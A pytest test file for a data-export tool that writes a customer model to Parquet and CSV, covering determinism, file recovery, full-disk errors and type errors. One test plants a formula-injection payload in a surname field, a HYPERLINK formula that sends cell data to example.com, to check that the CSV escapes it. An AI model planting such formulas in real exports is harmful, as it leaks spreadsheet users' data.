"""Exports: what is in the files, when they are written, and that they are whole or not there."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from conftest import CUSTOMERS, DUCKDB_ONLY, MAKE_MODELS, Egress, Sql

NAMES = ("customer_360.parquet", "customer_360.csv")


@pytest.fixture
def exports(project: Path, models: Sql) -> Path:
    """Return the folder of the exports, beside a warehouse with models."""
    return project / "data" / "exports"


def contents(exports: Path) -> dict[str, bytes]:
    """Return the bytes of each file in the folder."""
    return {file.name: file.read_bytes() for file in exports.iterdir()}


def test_both_formats_hold_the_model(exports: Path, egress: Egress) -> None:
    """Parquet and CSV hold every row of the model, with exact types, in order of the key."""
    assert egress("run", "--target", "files") == 0
    rows = pq.read_table(exports / NAMES[0]).to_pylist()
    assert [row["entity_id"] for row in rows] == [f"E-{i}" for i in range(CUSTOMERS)]
    assert rows[3]["lifetime_sales"] == Decimal("3.30")
    with (exports / NAMES[1]).open(newline="") as file:
        lines = list(csv.DictReader(file))
    assert lines == [{name: str(value) for name, value in row.items()} for row in rows]


def test_model_made_again_gives_equal_bytes(exports: Path, egress: Egress, transform: Callable[[str], None]) -> None:
    """An unchanged model gives byte-equal files, in whatever order its rows lie."""
    egress("run", "--target", "files")
    before = contents(exports)
    transform(MAKE_MODELS.replace("baskets desc", "baskets"))
    assert egress("run", "--target", "files", "--full") == 0
    assert contents(exports) == before


@DUCKDB_ONLY
@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("damage", [Path.unlink, lambda file: file.write_bytes(b"x")], ids=["missing", "overwritten"])
def test_lost_or_damaged_file_is_written_again(exports: Path, egress: Egress, name: str, damage: object) -> None:
    """A file that is gone or holds something else is restored, though the model has not changed."""
    egress("run", "--target", "files")
    before = contents(exports)
    assert callable(damage)
    damage(exports / name)
    assert egress("run", "--target", "files") == 0
    assert contents(exports) == before


def test_model_that_comes_back_is_written_again(
    exports: Path, egress: Egress, sql: Sql, transform: Callable[[str], None]
) -> None:
    """Content that the files held before the last one counts as changed."""
    egress("run", "--target", "files")
    before = contents(exports)
    sql("update egress.customer_360 set surname = 'smith' where entity_id = 'E-3'")
    egress("run", "--target", "files")
    transform(MAKE_MODELS)
    egress("run", "--target", "files")
    assert contents(exports) == before


@DUCKDB_ONLY
def test_plan_names_the_files_and_writes_none(exports: Path, egress: Egress, capfd: pytest.CaptureFixture[str]) -> None:
    """`plan` says which files would be written, and writes none."""
    assert egress("plan", "--target", "files") == 0
    out = capfd.readouterr().out
    assert all(f"write      {exports / name}" in out for name in NAMES)
    assert not exports.exists()


@DUCKDB_ONLY
def test_state_that_says_delivered_does_not_hide_another_folder(
    exports: Path, egress: Egress, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The same warehouse with another data folder gets its files too: a ledger hit alone is no proof."""
    egress("run", "--target", "files")
    monkeypatch.setenv("DATA_DIR", "elsewhere")
    assert egress("run", "--target", "files") == 0
    assert contents(tmp_path / "elsewhere" / "exports") == contents(exports)


@DUCKDB_ONLY
@pytest.mark.skipif(not shutil.which("unshare"), reason="needs Linux namespaces for a small disk")
def test_full_disk_keeps_the_old_files(
    exports: Path, egress: Egress, sql: Sql, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A disk that fills up while an export is written ends in a clear error, and the old file is whole."""
    monkeypatch.setenv("FILES_CREATE_ROWS", "30000")
    egress("run", "--target", "files")
    old = (exports / NAMES[1]).read_bytes()
    sql(
        "insert into egress.customer_360 "
        "select 'X-' || i, md5(cast(i as varchar)), 1, date '2020-01-01' from generate_series(1, 30000) as numbers (i)"
    )
    script = (
        'mount -t tmpfs -o size=256k tmpfs "$1" && cp -r "$2"/. "$1" || exit 77; '
        'shift 2; "$@"; code=$?; ls -A data/exports; sha256sum data/exports/*.csv; exit $code'
    )
    copy = tmp_path / "old"
    shutil.copytree(exports, copy)
    words = [sys.executable, "-m", "egress", "run", "--target", "files"]
    done = subprocess.run(
        ["unshare", "--mount", "--map-root-user", "sh", "-c", script, "sh", exports, copy, *words],
        cwd=tmp_path,
        env=os.environ,
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode == 77 or "unshare" in done.stderr:
        pytest.skip("this machine lets nobody mount a small disk")
    assert done.returncode == 1
    assert "error: no space left while writing" in done.stderr
    assert "hint: free space" in done.stderr
    assert "Traceback" not in done.stderr
    names = done.stdout.split()
    assert sorted(names[:2]) == sorted(NAMES)
    assert names[2] == hashlib.sha256(old).hexdigest()
    assert egress("run", "--target", "files") == 0
    assert pq.read_metadata(exports / NAMES[0]).num_rows == CUSTOMERS + 30000


def test_csv_begins_no_formula_unless_it_is_told_to(
    exports: Path, egress: Egress, sql: Sql, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A text that a spreadsheet would run is escaped in the CSV file alone; `raw` writes it as it is, and once."""
    formula = '=HYPERLINK("http://example.com/"&A1)'
    sql(f"update egress.customer_360 set surname = '{formula}', lifetime_sales = -3.5 where entity_id = 'E-3'")

    def surnames() -> tuple[str, str, str]:
        with (exports / NAMES[1]).open(newline="") as file:
            row = list(csv.DictReader(file))[3]
        return row["surname"], row["lifetime_sales"], pq.read_table(exports / NAMES[0]).to_pylist()[3]["surname"]

    assert egress("run", "--target", "files") == 0
    assert surnames() == (f"'{formula}", "-3.50", formula)
    before = {file.name: file.stat().st_ino for file in exports.iterdir()}
    assert egress("run", "--target", "files") == 0
    assert {file.name: file.stat().st_ino for file in exports.iterdir()} == before, "an escape is no change"
    monkeypatch.setenv("FILES_CSV_TEXT", "raw")
    assert egress("run", "--target", "files") == 0
    assert surnames() == (formula, "-3.50", formula)
    after = {file.name: file.stat().st_ino for file in exports.iterdir()}
    assert (after[NAMES[0]] == before[NAMES[0]], after[NAMES[1]] == before[NAMES[1]]) == (True, False)


@DUCKDB_ONLY
@pytest.mark.parametrize(
    ("spoil", "told"),
    [
        ("update egress.customer_360 set last_purchase_date = 'infinity' where entity_id = 'E-3'", "1 rows cannot be"),
        ("alter table egress.customer_360 add column picture blob default '\\xff'::blob", "Invalid UTF8"),
        ("alter table egress.customer_360 add column wait interval default interval 3 day", "interval"),
    ],
)
def test_what_a_format_has_no_form_for(
    exports: Path, egress: Egress, sql: Sql, capfd: pytest.CaptureFixture[str], spoil: str, told: str
) -> None:
    """What is no date or no text in a file is an error of the model's, and the file stays as it was."""
    egress("run", "--target", "files")
    before = (exports / NAMES[1]).read_bytes()
    sql(spoil)
    assert egress("run", "--target", "files") == 2
    text = capfd.readouterr().err
    assert told in text
    assert "hint: correct the model" in text
    assert (exports / NAMES[1]).read_bytes() == before
